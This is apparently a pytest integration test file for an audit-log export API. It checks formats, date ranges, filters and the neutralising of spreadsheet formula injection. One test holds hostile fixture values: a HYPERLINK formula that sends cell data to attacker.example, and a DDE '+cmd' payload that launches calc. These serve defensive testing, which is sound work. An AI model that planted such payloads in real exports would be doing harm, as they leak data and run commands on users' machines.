"""GET /v1/audit/export through the real handler (functions/audit_export/app.py) against moto: successes."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from devtools.generate import audit_records
from export_service.logic.audit_records import seal_audit_record, write_audit_records
from export_service.models.audit import AUDIT_COLUMNS, NewAuditRecord
from export_service.timefmt import utc_now
from tests.helpers import (
    CSV_HEADER,
    authorizer_context,
    json_body,
    load_event,
    response_header,
    with_authorizer,
    with_query,
)
from tests.integration.support import csv_rows, expected, export, parse_csv, sealed

pytestmark = pytest.mark.integration

DAY_START = datetime(2026, 3, 2, tzinfo=UTC)
DAY_END = datetime(2026, 3, 3, tzinfo=UTC)
BOUNDS = {"from": "2026-03-02T00:00:00Z", "to": "2026-03-03T00:00:00Z"}


def _export(params: dict, tenant: str = "acme") -> dict:
    event = with_query(load_event("audit_export_get"), params)
    if tenant != "acme":
        event = with_authorizer(event, authorizer_context(tenant, f"ak_{tenant.replace('-', '_')}_reader"))
    response = export(event)
    assert response["statusCode"] == 200, response["body"]
    return response


def test_sample_event_exports_the_day_as_csv(stack):
    response = export(load_event("audit_export_get"))
    assert response["statusCode"] == 200
    assert response_header(response, "Content-Type") == "text/csv; charset=utf-8"
    assert response_header(response, "Content-Disposition") == 'attachment; filename="audit-2026-03-02_2026-03-03.csv"'
    body = response["body"]
    assert body.startswith(CSV_HEADER + "\r\n")
    assert body.endswith("\r\n")
    rows = parse_csv(body)
    assert rows[0] == list(AUDIT_COLUMNS)
    assert rows[1:] == csv_rows(expected(sealed("acme"), DAY_START, DAY_END))
    assert len(rows) == 1 + 80
    # the generator's hostile resource names on that day are neutralised too
    assert [row[5] for row in rows if row[5].startswith("'")] == ["'-2+3", "'-2+3"]


def test_json_envelope(stack):
    before = utc_now()
    response = _export({**BOUNDS, "format": "json"})
    assert response_header(response, "Content-Type") == "application/json"
    assert response_header(response, "Content-Disposition") == 'attachment; filename="audit-2026-03-02_2026-03-03.json"'
    body = json_body(response)
    want = expected(sealed("acme"), DAY_START, DAY_END)
    exported_at = datetime.fromisoformat(body["metadata"].pop("exportedAt"))
    assert before - timedelta(seconds=1) <= exported_at <= utc_now()
    assert body == {
        "apiVersion": "v1",
        "kind": "AuditExport",
        "metadata": {
            "from": "2026-03-02T00:00:00.000Z",
            "to": "2026-03-03T00:00:00.000Z",
            "totalRecords": len(want),
            "format": "json",
        },
        "records": want,
    }


def test_json_lines(stack):
    response = _export({**BOUNDS, "format": "jsonl"})
    assert response_header(response, "Content-Type") == "application/x-ndjson"
    assert (
        response_header(response, "Content-Disposition") == 'attachment; filename="audit-2026-03-02_2026-03-03.jsonl"'
    )
    assert response["body"].endswith("\n")
    lines = response["body"].splitlines()
    assert [json.loads(line) for line in lines] == expected(sealed("acme"), DAY_START, DAY_END)


def test_range_start_and_range_end_are_synonyms_of_from_and_to(stack):
    synonyms = _export({"range_start": BOUNDS["from"], "range_end": BOUNDS["to"]})
    assert synonyms["body"] == _export(BOUNDS)["body"]
    assert response_header(synonyms, "Content-Disposition") == 'attachment; filename="audit-2026-03-02_2026-03-03.csv"'


def test_offsets_are_converted_to_utc(stack):
    response = _export({"from": "2026-03-02T01:00:00+01:00", "to": "2026-03-02T19:00:00-05:00", "format": "jsonl"})
    rows = [json.loads(line) for line in response["body"].splitlines()]
    assert rows == expected(sealed("acme"), DAY_START, DAY_END)


@pytest.mark.parametrize(
    "filters",
    [
        {"user": "ivan.kim@acme.example.com"},
        {"action": "user.login"},
        {"namespace": "development"},
        {"action": "user.login", "namespace": "production"},
        {"user": "ivan.kim@acme.example.com", "action": "runbook.execute", "namespace": "production"},
    ],
    ids="+".join,
)
def test_filters(stack, filters):
    start, end = datetime(2026, 3, 1, 12, tzinfo=UTC), datetime(2026, 3, 3, 12, tzinfo=UTC)
    response = _export({"from": "2026-03-01T12:00:00Z", "to": "2026-03-03T12:00:00Z", **filters})
    want = expected(sealed("acme"), start, end, **filters)
    assert want
    assert parse_csv(response["body"])[1:] == csv_rows(want)


def test_bom_for_excel(stack):
    response = _export({**BOUNDS, "bom": "true"})
    assert response["body"].startswith("\ufeff" + CSV_HEADER + "\r\n")
    assert parse_csv(response["body"][1:])[1:] == csv_rows(expected(sealed("acme"), DAY_START, DAY_END))


def test_formula_cells_are_neutralised_in_csv_but_not_in_json(stack):
    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open report")'
    new = NewAuditRecord(
        id="audit-20260302-000001",
        timestamp=datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
        action="runbook.create",
        user="@mallory@hostile.example.com",
        role="operator",
        resource=hostile,
        resourceType="Runbook",
        namespace="production",
        sourceIP="10.9.0.1",
        eventType="runbook",
        subType="created",
        systemSource="+cmd|' /C calc'!A0",
        auditeeId="usr_mallory",
        metadata={"tag": "=1+1"},
    )
    write_audit_records(stack.audit_store, "hostile-co", [new])
    sealed_row = seal_audit_record(new).model_dump()
    csv_response = _export(BOUNDS, tenant="hostile-co")
    assert parse_csv(csv_response["body"])[1:] == [
        [
            "audit-20260302-000001",
            "2026-03-02T09:30:00.000Z",
            "runbook.create",
            "'@mallory@hostile.example.com",
            "operator",
            "'" + hostile,
            "Runbook",
            "production",
            "10.9.0.1",
            sealed_row["checksum"],
            "runbook",
            "created",
            "'+cmd|' /C calc'!A0",
            "usr_mallory",
            '{"tag":"=1+1"}',  # a JSON object: starts with "{", which no spreadsheet runs
        ]
    ]
    assert json_body(_export({**BOUNDS, "format": "json"}, tenant="hostile-co"))["records"] == [sealed_row]


def test_without_bounds_everything_is_exported_and_named_by_today(stack):
    # Given a tenant whose records are all from the last two days
    now = utc_now()
    records = list(audit_records("umbrella", 40, now - timedelta(days=2), now - timedelta(minutes=5)))
    write_audit_records(stack.audit_store, "umbrella", records)
    # When it exports with no from/to
    response = _export({"format": "jsonl"}, tenant="umbrella")
    # Then it gets every record, in a file named by today's date
    assert [json.loads(line) for line in response["body"].splitlines()] == expected(
        [seal_audit_record(record).model_dump() for record in records]
    )
    today = utc_now().date().isoformat()
    assert response_header(response, "Content-Disposition") == f'attachment; filename="audit-{today}.jsonl"'


def test_to_defaults_to_now(stack):
    response = _export({"from": "2026-03-03T12:00:00Z", "format": "jsonl"})
    rows = [json.loads(line) for line in response["body"].splitlines()]
    assert rows == expected(sealed("acme"), datetime(2026, 3, 3, 12, tzinfo=UTC))
    today = utc_now().date().isoformat()
    assert response_header(response, "Content-Disposition") == f'attachment; filename="audit-2026-03-03_{today}.jsonl"'


def test_exactly_the_sync_limit_is_served(stack, monkeypatch):
    monkeypatch.setenv("SYNC_EXPORT_LIMIT", "80")
    response = _export(BOUNDS)
    assert len(parse_csv(response["body"])) == 1 + 80


def test_empty_result_is_a_header_only_csv(stack):
    response = _export({"from": "2026-04-01T00:00:00Z", "to": "2026-04-02T00:00:00Z"})
    assert response["body"] == CSV_HEADER + "\r\n"
